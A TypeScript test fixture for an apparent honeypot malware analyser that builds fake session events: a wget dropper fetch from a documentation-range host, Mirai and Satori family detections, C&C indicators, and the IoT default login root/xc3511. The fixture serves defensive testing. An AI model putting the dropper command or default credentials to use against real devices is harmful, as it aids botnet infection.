// A small sample history as events, for the sample query tests: a dropper fetched in one session
// naming an ARM binary (fetched again in a second session), a UPX-packed file's inner ELF known only
// by its analysis, an echo-written file later evicted, an unanalysed capture, a failed fetch, and a
// re-analysis whose stale rule match must not show. Hashes are fake but well-formed.
import { SCHEMA_VERSION } from '../core/events.ts';
import type { EventPayloads, HachiEvent, SensorEvent, SensorEventType } from '../core/events.ts';
import { createEventFactory } from './telnet-events.ts';

export const SHA = {
  dropper: `d0${'0'.repeat(62)}`,
  arm: `ab12cd34${'0'.repeat(56)}`,
  echoed: `ab12cd34${'1'.repeat(56)}`,
  inner: `e1${'2'.repeat(62)}`,
  unanalysed: `f0${'3'.repeat(62)}`,
} as const;

export const URL_DROPPER = 'http://203.0.113.7/bins.sh';
export const URL_ARM = 'http://203.0.113.7/bins/x.arm7';
// Two digests 1 apart (same header, one body nibble), a third far away: a cluster of two.
export const TLSH_ARM = `T1${'A'.repeat(6)}${'5'.repeat(64)}`;
export const TLSH_INNER = `T1${'A'.repeat(6)}${'5'.repeat(63)}4`;

export function sampleHistory(): HachiEvent[] {
  const f = createEventFactory(1_000_000);
  let ts = 2_000_000;
  let n = 0;
  const sensor = <K extends SensorEventType>(type: K, data: EventPayloads[K]): SensorEvent => {
    n += 1;
    ts += 10;
    return { id: `01SENSOR${String(n).padStart(18, '0')}`, type, ts, schema: SCHEMA_VERSION, sensor: 'analyser', data } as SensorEvent;
  };
  const fetch = (url: string, sha256: string | null, bytes: number, parent: string | null, depth: number): EventPayloads['download.fetch'] => ({
    tool: 'wget', url, finalUrl: url, outcome: sha256 === null ? 'timeout' : 'ok', status: sha256 === null ? null : '200 OK', bytes, sha256,
    address: '203.0.113.7', durationMs: 12, redirects: 0, shared: false, detail: '', parent, depth,
  });
  const file = (sha256: string, kind: string, arch: string | null, tlsh: string | null, inner: string | null): EventPayloads['analysis.file'] => ({
    sha256, size: 4096, kind, description: `${kind} test file`, arch, machine: arch === null ? null : 'ARM', elf: null,
    upx: inner === null ? null : { version: '3.94', magicAltered: false, unpacked: inner, unpackError: null }, tlsh, inner, durationMs: 1,
  });
  const s1 = f.session(1, 'hi3518-camera');
  const s2 = f.session(2, 'tplink-router');
  return [
    f.event('session.connect', {}, s1),
    f.event('download.attempt', { tool: 'wget', url: URL_DROPPER, outputPath: '/tmp/bins.sh', line: `wget ${URL_DROPPER}` }, s1),
    f.event('download.fetch', fetch(URL_DROPPER, SHA.dropper, 200, null, 0), s1),
    f.event('download.fetch', fetch(URL_ARM, SHA.arm, 4096, SHA.dropper, 1), s1),
    f.event('download.fetch', fetch('http://203.0.113.7/slow', null, 0, SHA.dropper, 1), s1),
    f.event('file.write', { path: '/tmp/e', sha256: SHA.echoed, size: 64, reason: 'close' }, s1),
    f.event('session.connect', {}, s2),
    f.event('download.fetch', fetch(URL_ARM, SHA.arm, 4096, null, 0), s2),
    f.event('file.write', { path: '/tmp/u', sha256: SHA.unanalysed, size: 10, reason: 'close' }, s2),
    // A first analysis whose rule no longer matches on the second.
    sensor('analysis.file', file(SHA.arm, 'upx-elf', 'arm', TLSH_ARM, SHA.inner)),
    sensor('analysis.family', { sha256: SHA.arm, family: 'gafgyt', variant: null, rule: 'old-rule', engine: 'builtin', evidence: ['x@1'] }),
    sensor('analysis.file', file(SHA.arm, 'upx-elf', 'arm', TLSH_ARM, SHA.inner)),
    sensor('analysis.indicators', { sha256: SHA.arm, ipv4: ['198.51.100.9'], ipv6: [], domains: ['cnc.example.net'], urls: [], hostPorts: [], userAgents: [], credentials: [{ username: 'root', password: 'xc3511' }], strings: 40, truncated: false }),
    sensor('analysis.family', { sha256: SHA.arm, family: 'mirai', variant: null, rule: 'mirai', engine: 'builtin', evidence: ['/bin/busybox@100'] }),
    sensor('analysis.mirai', { sha256: SHA.arm, key: 0x22, cnc: { domain: 'cnc.example.net', port: 23 }, scanCallback: { domain: 'r.example.net', port: 48101 }, killer: ['/proc/'], scanner: ['shell'], strings: 30 }),
    sensor('analysis.file', file(SHA.inner, 'elf', 'arm', TLSH_INNER, null)),
    sensor('analysis.family', { sha256: SHA.inner, family: 'mirai', variant: 'satori', rule: 'mirai-satori', engine: 'yara', evidence: ['satori@9'] }),
    sensor('analysis.file', file(SHA.dropper, 'shell-script', null, null, null)),
    sensor('analysis.file', file(SHA.echoed, 'text', null, null, null)),
    sensor('artifact.evicted', { sha256: SHA.echoed, size: 64, reason: 'size-cap' }),
  ];
}
